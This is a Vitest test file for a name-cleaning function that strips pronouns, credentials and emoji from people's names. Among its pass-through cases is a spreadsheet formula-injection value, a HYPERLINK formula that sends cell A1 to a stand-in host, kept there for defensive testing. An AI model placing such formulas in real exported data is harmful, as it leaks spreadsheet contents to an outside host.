import { describe, expect, it } from 'vitest';
import { nameKey, nameOf } from './names.ts';

describe('names of people', () => {
  it.each([
    [{ firstName: 'Jane (She/Her)', lastName: 'Doe, PMP' }, 'Jane', 'Doe'],
    [{ firstName: '🚀 Ana', lastName: 'López 🌟' }, 'Ana', 'López'],
    [{ firstName: 'Maria', lastName: 'Smith, MBA, PMP®' }, 'Maria', 'Smith'],
    [{ firstName: 'Dr. Ada', lastName: 'Byron-Lovelace CSPO' }, 'Dr. Ada', 'Byron-Lovelace'],
    [{ firstName: 'Kim', lastName: 'Lee (he/him) | Hiring' }, 'Kim', 'Lee'],
    [{ name: 'John Smith, PMP' }, 'John', 'Smith'],
    [{ name: 'Lindqvist, Petra' }, 'Petra', 'Lindqvist'],
    [{ name: 'Ludwig van der Rohe, PhD' }, 'Ludwig', 'van der Rohe'],
  ])('%j is a name with something beside it, and is kept as printed too', (cells, firstName, lastName) => {
    const printedName = Object.values(cells).join(' ');
    expect(nameOf(cells)).toEqual({ firstName, lastName, printedName });
  });

  it.each([
    [{ firstName: 'Li', lastName: 'MA' }],
    [{ firstName: 'Efe', lastName: '-2+3' }],
    [{ firstName: '=HYPERLINK("http://x.example/?"&A1,"click")', lastName: 'Hagen' }],
    [{ firstName: 'Robert (Bob)', lastName: "O'Neil" }],
    [{ firstName: '🚀', lastName: '🌟' }],
    [{ firstName: 'José', lastName: 'GARCÍA MÁRQUEZ' }],
  ])('%j is left as it is', (cells) => {
    expect(nameOf(cells)).toEqual(cells);
  });

  it('gives what is known of half a name', () => {
    expect(nameOf({ name: 'Cher' })).toEqual({ firstName: 'Cher' });
    expect(nameOf({ lastName: 'Okafor' })).toEqual({ lastName: 'Okafor' });
    expect(nameOf({ firstName: ' ' })).toEqual({});
  });

  it('knows two printings of one name', () => {
    expect(nameKey('JOSÉ García (he/him)')).toBe(nameKey('Jose Garcia, MBA'));
  });
});
